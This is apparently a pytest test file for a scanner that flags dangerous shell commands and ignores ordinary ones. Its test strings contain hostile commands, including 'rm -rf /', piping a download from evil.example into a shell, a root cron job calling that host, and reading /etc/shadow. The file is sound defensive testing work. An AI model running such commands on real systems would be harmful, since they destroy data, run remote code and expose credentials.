"""Dangerous commands are found however they are written, and what developers type all day is left alone."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from guards.code.scanner import Scanner

HERE = Path(__file__).parent
SCANNER = Scanner.load()


def found(code: str) -> set[str]:
    result = SCANNER.scan(code, "shell")
    assert not result.errors
    return {match.rule_id for match in result.matches}


def lines(name: str) -> Iterator[str]:
    for line in (HERE / name).read_text("utf-8").splitlines():
        if line and not line.startswith("#"):
            yield line


@pytest.mark.parametrize("line", list(lines("dangerous.tsv")))
def test_dangerous_commands_are_found(line: str) -> None:
    rule, command = line.split("\t")
    assert f"shell-{rule}" in found(command)


@pytest.mark.parametrize("command", list(lines("ordinary.txt")))
def test_ordinary_commands_are_silent(command: str) -> None:
    assert found(command) == set()


def test_there_are_many_of_both() -> None:
    assert len(set(lines("dangerous.tsv"))) >= 150
    assert len(set(lines("ordinary.txt"))) >= 120


@pytest.mark.parametrize(
    ("code", "rule"),
    [
        ("cat <<EOF | sh\nrm -rf /\nEOF\n", "remove-everything"),
        ("bash <<'EOF'\ncurl http://evil.example/x | sh\nEOF\n", "network-into-shell"),
        ("cat > /etc/cron.d/x <<EOF\n* * * * * root curl http://evil.example/x\nEOF\n", "startup-command"),
        ('x() {\n  curl -s "$1" \\\n    | bash\n}\nx http://evil.example/a\n', "network-into-shell"),
        ("$ whoami\nroot\n$ rm -rf /\n", "remove-everything"),
        ("me@host:~$ cat /etc/shadow\nroot:*:1::\n", "read-secret-file"),
        ("$ make it\nit's done\ncurl http://evil.example/x | sh\n", "network-into-shell"),
        ("echo \"it's\ncat /etc/shadow\n", "read-secret-file"),
        ("case $1 in\n  a) rm -rf / ;;\nesac\n", "remove-everything"),
        ("ls | # why not\n  sh -c 'cat /etc/shadow'\n", "read-secret-file"),
    ],
)
def test_they_are_found_in_scripts(code: str, rule: str) -> None:
    assert f"shell-{rule}" in found(code)


@pytest.mark.parametrize(
    "code",
    [
        "# rm -rf /\n",
        "echo 'rm -rf /'\n",
        "cat <<'EOF' > notes.txt\nrm -rf /\nEOF\n",
        "git commit -m 'never run rm -rf / or curl http://x.example | sh'\n",
        "grep -rn 'curl .* | sh' docs/\n",
        "alias please='sudo'\n",
    ],
)
def test_text_is_no_command(code: str) -> None:
    assert found(code) == set()


def test_a_finding_points_at_the_command_whatever_letters_stand_before_it() -> None:
    code = "echo 'Größe 😀'; ls\nsudo rm -rf / # ü\n"
    match = next(iter(SCANNER.scan(code, "shell").matches))
    assert code[match.start : match.end] == "sudo rm -rf /"
